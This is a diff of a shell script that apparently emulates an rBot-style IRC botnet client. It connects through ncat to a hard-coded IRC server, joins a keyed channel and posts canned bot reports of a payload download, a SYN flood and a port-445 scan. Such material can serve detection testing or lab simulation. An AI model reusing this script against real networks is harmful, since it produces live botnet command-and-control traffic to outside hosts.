@@ -11,7 +11,7 @@ host EIGYO-NOTE windows
 ) | on net ncat 37.59.46.220 6667 >>$W/log/master 2>&1 &
 sleep 1
 (
-	printf 'NICK JPN|10|47113\r\nUSER xqzvt 0 * :JPN|10|47113\r\n'; sleep 1; printf 'JOIN #rbot k3y\r\n'; sleep 2
+	printf 'NICK JP|471\r\nUSER xqzvt 0 * :JP|471\r\n'; sleep 1; printf 'JOIN #rbot k3y\r\n'; sleep 2
 	for c in '[MAIN]: Password accepted.' '[SYSINFO]: CPU: 2400MHz. RAM: 8GB. OS: Windows 10 [10.0, Build 19045]. Uptime: 3d 4h.' '[SPEED]: 40 Mbit' '[DOWNLOAD]: Downloading http://194.26.135.12/up.exe...' '[DDoS]: SYN flooding 93.184.216.40:80 for 60 seconds.' '[SCAN]: Random Port Scan started on x.x.x.x:445 with 100 threads.'; do
 		printf 'PRIVMSG #rbot :%s\r\n' "$c"; sleep 0.7
 	done
